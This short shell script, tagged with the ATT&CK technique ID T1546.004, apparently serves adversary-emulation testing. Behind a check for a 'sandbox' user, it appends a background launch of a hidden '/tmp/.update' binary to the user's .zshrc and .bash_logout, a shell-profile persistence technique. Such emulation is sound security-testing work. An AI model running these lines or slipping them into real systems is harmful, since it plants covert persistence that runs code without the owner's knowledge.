#!/bin/sh
# technique: T1546.004
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo '/tmp/.update &' >> "$HOME/.zshrc"; echo '/tmp/.update &' >> "$HOME/.bash_logout"
